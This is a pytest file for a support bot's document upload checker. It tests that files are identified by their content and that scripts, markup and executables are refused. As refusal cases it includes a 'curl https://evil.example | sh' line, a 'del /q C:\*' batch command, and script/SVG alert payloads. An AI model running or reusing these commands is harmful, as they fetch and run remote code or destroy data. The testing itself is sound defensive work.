"""A document is what its bytes are, not what its name says: the content is sniffed (magic bytes) and
must be an accepted type that agrees with the name and the declared type; markup, scripts and
executables are refused whatever they are called."""

from __future__ import annotations

import io
import zipfile

import pytest

from supportbot.integrations.documents import DocumentRefused, checked

PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(256)) * 4
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + bytes(32)
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(32)
LOG = b"2026-11-28 07:02 B2001234 power-on self test failed\n"
CSV_1252 = "Artikel;Antal;Ort\nSkärm;2;Göteborg\n".encode("cp1252")
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(64)
MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(64)
HTML = b"<!DOCTYPE html><html><body><script>fetch('/agents/api/session')</script></body></html>"

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def zipped(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


WORD = zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
EXCEL = zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"})
PLAIN_ZIP = zipped({"notes.txt": b"hello"})


@pytest.mark.parametrize(
    ("name", "declared", "data", "kept_as"),
    [
        ("invoice scan.pdf", "application/pdf", PDF, "application/pdf"),
        ("front panel.png", "image/png", PNG, "image/png"),
        ("photo.JPG", "image/jpeg", JPEG, "image/jpeg"),
        ("anim.gif", "image/gif", GIF, "image/gif"),
        ("shot.webp", "image/webp", WEBP, "image/webp"),
        ("boot.log", "text/plain", LOG, "text/plain"),
        ("boot.log", "text/plain; charset=utf-8", b"\xef\xbb\xbf" + LOG, "text/plain"),
        ("lager.csv", "text/csv", CSV_1252, "text/csv"),
        ("lager.csv", "text/plain", LOG, "text/csv"),
        ("report.docx", DOCX, WORD, DOCX),
        ("figures.xlsx", XLSX, EXCEL, XLSX),
        ("logs.zip", "application/zip", PLAIN_ZIP, "application/zip"),
        ("report.docx", "application/zip", WORD, DOCX),
        ("README", "text/plain", LOG, "text/plain"),
        ("syslog", "text/plain", b"<134>Nov 28 07:02:01 kista-01 kernel: link down\n", "text/plain"),
    ],
)
def test_a_document_that_is_what_it_says_is_kept(name: str, declared: str, data: bytes, kept_as: str) -> None:
    _, kind, _ = checked(name, declared, data)
    assert kind == kept_as


@pytest.mark.parametrize(
    ("name", "declared", "data"),
    [
        ("invoice.pdf", "application/pdf", HTML),  # a web page renamed
        ("invoice.pdf", "application/pdf", b"  \n<html><body>hi</body></html>"),
        ("invoice.pdf", "application/pdf", ELF),  # a Linux program renamed
        ("invoice.pdf", "application/pdf", MZ),  # a Windows program renamed
        ("notes.txt", "text/plain", MZ),
        ("notes.txt", "text/plain", HTML),
        ("notes.txt", "text/plain", b"#!/bin/sh\ncurl https://evil.example | sh\n"),
        ("notes.txt", "text/plain", b"\xef\xbb\xbf<script>alert(1)</script>"),
        ("logo.png", "image/png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("data.csv", "text/csv", b'<?xml version="1.0"?><svg/>'),
        ("page.html", "text/plain", LOG),  # an accepted type in the header, markup by its name
        ("run.bat", "text/plain", b"del /q C:\\*\n"),
        ("tool.exe", "text/plain", LOG),
        ("helper.js", "text/plain", b"WScript.Echo(1)\n"),
    ],
)
def test_markup_scripts_and_programs_are_refused_whatever_their_name(
    name: str, declared: str, data: bytes
) -> None:
    with pytest.raises(DocumentRefused) as refused:
        checked(name, declared, data)
    assert not refused.value.mismatch, "refused for what it is"


@pytest.mark.parametrize(
    ("name", "declared", "data"),
    [
        ("invoice.pdf", "application/pdf", PNG),  # a picture named a PDF
        ("photo.png", "image/png", JPEG),
        ("photo.png", "image/jpeg", JPEG),  # the name and the declared type disagree
        ("report.docx", DOCX, PLAIN_ZIP),  # a zip that is no Word document
        ("figures.xlsx", XLSX, WORD),
        ("boot.log", "text/plain", b"\x00\x01\x02binary\x00"),
        ("scan.pdf", "text/plain", PDF),
    ],
)
def test_content_that_does_not_match_its_name_is_refused(name: str, declared: str, data: bytes) -> None:
    with pytest.raises(DocumentRefused) as refused:
        checked(name, declared, data)
    assert refused.value.mismatch
